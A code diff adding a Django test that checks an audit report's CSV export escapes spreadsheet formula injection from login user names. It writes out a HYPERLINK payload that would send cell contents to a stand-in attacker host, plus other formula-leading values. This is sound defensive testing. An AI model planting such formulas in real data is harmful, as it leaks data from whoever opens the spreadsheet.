@@ -388,6 +388,24 @@ class TestAuditReport(_AuditCase):
         body = b"".join(response.streaming_content) if response.streaming else response.content
         self.assertIn("192.0.2.123", body.decode("utf-8-sig"))
 
+    def test_csv_export_neutralises_formulas(self):
+        """#23: a login attempt with the user name =HYPERLINK(…) landed as a live formula
+        in the CSV export an administrator opens in Excel."""
+        import csv
+        import io
+
+        payload = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
+        for name in (payload, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"):
+            self.login_form(name, "sai", ip="198.51.100.66")
+        self.client.force_login(self.admin)
+        response = self.client.get(REPORT, {"export": "csv", "q": "198.51.100.66"})
+        body = b"".join(response.streaming_content) if response.streaming else response.content
+        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        self.assertIn("'" + payload, cells)
+        for cell in cells:
+            self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)
+
     def test_editors_moderators_and_the_chief_are_refused(self):
         for user in (self.editor, self.moderator, self.chief):
             response = self.report(user)
